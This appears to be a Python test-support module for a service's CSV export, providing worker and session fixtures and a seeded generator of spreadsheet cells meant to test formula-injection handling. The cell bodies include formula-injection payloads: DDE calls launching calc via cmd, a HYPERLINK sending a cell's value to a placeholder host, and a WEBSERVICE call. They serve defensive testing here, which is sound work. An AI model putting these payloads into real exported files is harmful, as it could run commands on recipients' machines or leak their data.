"""What the tests of exports share: a worker without anybody at the other ends, and cells that want to be formulas."""

import csv
import random
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from io import StringIO

from sqlalchemy.orm import Session

from service.config import Settings
from service.wiring import make_worker
from service.worker.loop import Worker
from tests.support.staff_portal import Portal

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'", '"', ";", ",", " ", "\ufeff", "")
BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1;"apri")', "SUM(1;1)*2", 'WEBSERVICE("http://x")', "{1}",
    'DDE("cmd";"/C calc";"x")', "Rossi & Figli <b>", "_x003D_1+1", "ﬀ ß é 日本 🏗", "a\x0bb\x1fc", "x\ufffe\uffff",
)  # fmt: skip
JOINTS = ("", ";", ",", "\t", "\r\n", "\n", '";"', ";=", "\t@", ",+", ";＝", '";=1+1;"')


def hostile_cells(count: int, seed: int = 20261126) -> Iterator[str]:
    """Give as many cells: every beginning with every body first, then any mixture of them."""
    known = [start + body for start in STARTS for body in BODIES]
    dice = random.Random(seed)  # noqa: S311
    for number in range(count):
        if number < len(known):
            yield known[number]
        else:
            parts = (dice.choice(STARTS), dice.choice(BODIES), dice.choice(JOINTS), dice.choice(STARTS),
                     dice.choice(BODIES))  # fmt: skip
            yield "".join(parts)


def office_worker(portal: Portal) -> Iterator[Worker]:
    """Give a worker on the portal's database that does its jobs in this thread."""
    worker = make_worker(portal.settings)
    yield worker
    worker.engine.dispose()


@dataclass
class SessionBench:
    """What a job has in its hands, in a transaction of the test: for jobs that need no more than that."""

    session: Session
    settings: Settings

    @contextmanager
    def completion(self) -> Iterator[Session]:
        """Give the transaction that ends the job."""
        yield self.session
        self.session.flush()


def csv_numbers(content: bytes) -> list[str]:
    """Give the numbers of the applications in an exported CSV."""
    rows = csv.DictReader(StringIO(content.decode("utf-8-sig")), delimiter=";")
    return [row["Numero"] for row in rows]
